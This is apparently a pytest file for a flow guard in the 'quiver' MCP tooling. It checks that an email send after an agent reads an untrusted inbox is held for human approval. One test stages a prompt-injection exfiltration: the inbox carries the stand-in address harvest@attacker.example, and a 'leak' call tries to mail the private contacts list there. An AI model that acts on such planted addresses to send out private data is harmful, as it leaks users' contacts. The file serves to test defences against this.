"""The flow guard end to end (issue 28): the SDK's client talks to a real `quiver serve` over stdio, which talks
to examples/servers/mail_server.py (read_inbox: untrusted input, list_contacts: private data, send_email: a
way out). With `[flows] enforce = true`, a send after the inbox was read waits for approval: through MCP
elicitation where the client can answer, else until `quiver ledger approve`; off by default."""

from __future__ import annotations

import json
import shutil
import sys
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import anyio
import mcp.types as types
import pytest
from click.testing import CliRunner
from mcp import ClientSession, StdioServerParameters, stdio_client

from quiver.cli import cli

pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("no_leaked_children")]

ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "examples" / "servers" / "mail_server.py"
TEST_S = 60.0
AGENT = "---\ndescription: Answers the user's email.\ntools: ['mail/*']\n---\nHelp with email.\n"
INJECTION = "harvest@attacker.example"


@pytest.fixture(scope="module")
def snapshotted(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project with the mail server, snapshotted live once for the module (its lock is all that is reused)."""
    root = tmp_path_factory.mktemp("mail") / "project"
    write_project(root, root / "outbox.jsonl", enforce=False)
    result = CliRunner().invoke(cli, ["snapshot", "-C", str(root)])
    assert result.exit_code == 0, result.output
    return root


def write_project(root: Path, outbox: Path, *, enforce: bool) -> None:
    root.mkdir(parents=True, exist_ok=True)
    server = {"type": "stdio", "command": sys.executable, "args": [str(MAIL)], "env": {"MAIL_OUTBOX": str(outbox)}}
    (root / ".mcp.json").write_text(json.dumps({"mcpServers": {"mail": {**server, "tools": ["*"]}}}), encoding="utf-8")
    (root / ".github" / "agents").mkdir(parents=True, exist_ok=True)
    (root / ".github" / "agents" / "mailer.agent.md").write_text(AGENT, encoding="utf-8")
    (root / "quiver.toml").write_text("[flows]\nenforce = true\n" if enforce else "", encoding="utf-8")


async def compiled(snapshotted: Path, root: Path, outbox: Path, *, enforce: bool) -> Path:
    """The snapshotted project at `root`, sending to `outbox`, compiled (off the event loop); its manifest."""

    def build() -> Path:
        write_project(root, outbox, enforce=enforce)
        shutil.copyfile(snapshotted / "quiver.lock.json", root / "quiver.lock.json")
        result = CliRunner().invoke(cli, ["compile", "--quiet", "-C", str(root)])
        assert result.exit_code == 0, result.output
        return root / "build" / "quiver" / "mailer.json"

    return await anyio.to_thread.run_sync(build)


@asynccontextmanager
async def session(
    manifest: Path, ledger: Path | None, elicit: Callable[[str], types.ElicitResult] | None, errlog: Path
) -> AsyncIterator[ClientSession]:
    """A handshake-era session with `quiver serve` over stdio; `elicit` answers approvals (None: no capability)."""
    args = ["-m", "quiver", "serve", str(manifest), *(["--ledger", str(ledger)] if ledger else ["--no-ledger"])]
    params = StdioServerParameters(command=sys.executable, args=args, cwd=str(manifest.parents[2]))

    async def on_elicit(context: Any, params: types.ElicitRequestParams) -> types.ElicitResult:
        assert elicit is not None
        return elicit(params.message)

    with errlog.open("a") as log:
        async with (
            stdio_client(params, errlog=log) as (read, write),
            ClientSession(read, write, elicitation_callback=on_elicit if elicit else None) as client,
        ):
            await client.initialize()
            yield client


def text(result: Any) -> str:
    assert isinstance(result, types.CallToolResult)
    content = result.content[0]
    assert isinstance(content, types.TextContent)
    return content.text


def sent(outbox: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in outbox.read_text(encoding="utf-8").splitlines()] if outbox.exists() else []


async def test_the_compiled_manifest_labels_the_three_tools_and_records_the_flow(
    snapshotted: Path, tmp_path: Path
) -> None:
    path = await compiled(snapshotted, tmp_path / "p", tmp_path / "outbox.jsonl", enforce=True)
    manifest = json.loads(path.read_text(encoding="utf-8"))
    labels = {t["name"]: t["capabilities"] for t in manifest["tools"]}
    assert labels["read_inbox"][0] == "untrusted_input" and labels["send_email"] == ["exfiltration"]
    assert "private_data" in labels["list_contacts"]
    assert manifest["flows"]["enforce"] is True
    assert manifest["flows"]["found"][0]["witness"] == {
        "untrusted_input": "mail/read_inbox",
        "private_data": "mail/list_contacts",
        "exfiltration": "mail/send_email",
    }


async def test_a_send_after_the_inbox_was_read_is_asked_for_and_runs_only_once_approved(
    snapshotted: Path, tmp_path: Path
) -> None:
    outbox = tmp_path / "outbox.jsonl"
    manifest = await compiled(snapshotted, tmp_path / "p", outbox, enforce=True)
    asked: list[str] = []
    answers = iter(["decline", "accept"])

    def elicit(message: str) -> types.ElicitResult:
        asked.append(message)
        answer = next(answers)
        return types.ElicitResult(action=answer, content={"approve": True} if answer == "accept" else None)  # type: ignore[arg-type]

    with anyio.fail_after(TEST_S):
        async with session(manifest, tmp_path / "ledger.db", elicit, tmp_path / "serve.log") as client:
            first = await client.call_tool("mail__send_email", {"to": "carol@example.org", "body": "hi"})
            assert not first.is_error and asked == []  # nothing untrusted read yet: no question
            inbox = await client.call_tool("mail__read_inbox", {})
            assert INJECTION in text(inbox)
            contacts = await client.call_tool("mail__list_contacts", {})
            leak = {"to": INJECTION, "body": text(contacts)}
            declined = await client.call_tool("mail__send_email", leak)
            assert declined.is_error and len(asked) == 1
            assert sent(outbox) == [{"body": "hi", "subject": "", "to": "carol@example.org"}]  # nothing left
            assert asked[0].startswith("Approve `mail/send_email`?")
            assert "Why: this session read untrusted input through `mail/read_inbox`" in asked[0]
            assert f"to = {json.dumps(INJECTION)}" in asked[0]
            approved = await client.call_tool("mail__send_email", {"to": "dan@example.com", "body": "approved"})
            assert not approved.is_error and len(asked) == 2
    assert [m["to"] for m in sent(outbox)] == ["carol@example.org", "dan@example.com"]


async def test_a_client_that_cannot_be_asked_gets_the_action_and_ledger_approve_releases_it(
    snapshotted: Path, tmp_path: Path
) -> None:
    outbox = tmp_path / "outbox.jsonl"
    manifest = await compiled(snapshotted, tmp_path / "p", outbox, enforce=True)
    ledger = tmp_path / "ledger.db"
    with anyio.fail_after(TEST_S):
        async with session(manifest, ledger, None, tmp_path / "serve.log") as client:
            await client.call_tool("mail__read_inbox", {})
            waiting = await client.call_tool("mail__send_email", {"to": "dan@example.com", "body": "report"})
            assert "awaiting_approval" in text(waiting) and sent(outbox) == []
            assert waiting.meta is not None
            action = waiting.meta["io.quiver/action"]
            assert action["state"] == "awaiting_approval" and action["id"] in text(waiting)
            result = await anyio.to_thread.run_sync(
                lambda: CliRunner().invoke(
                    cli, ["ledger", "approve", action["id"], "--ledger", str(ledger), "--by", "ops"]
                )
            )
            assert result.exit_code == 0, result.output
            key = {"io.quiver/idempotency-key": action["idempotency_key"]}
            again = await client.call_tool("mail__send_email", {"to": "dan@example.com", "body": "report"}, meta=key)
            assert not again.is_error, text(again)
    assert [m["to"] for m in sent(outbox)] == ["dan@example.com"]


async def test_off_by_default_the_send_runs_and_without_a_ledger_an_enforced_one_is_refused(
    snapshotted: Path, tmp_path: Path
) -> None:
    outbox = tmp_path / "outbox.jsonl"
    plain = await compiled(snapshotted, tmp_path / "plain", outbox, enforce=False)
    with anyio.fail_after(TEST_S):
        async with session(plain, tmp_path / "ledger.db", None, tmp_path / "serve.log") as client:
            await client.call_tool("mail__read_inbox", {})
            assert not (await client.call_tool("mail__send_email", {"to": "a@example.com", "body": "x"})).is_error
        enforced = await compiled(snapshotted, tmp_path / "enforced", outbox, enforce=True)
        async with session(enforced, None, None, tmp_path / "serve.log") as client:
            await client.call_tool("mail__read_inbox", {})
            refused = await client.call_tool("mail__send_email", {"to": "b@example.com", "body": "y"})
            assert refused.is_error and "cannot ask for one" in text(refused)
    assert [m["to"] for m in sent(outbox)] == ["a@example.com"]
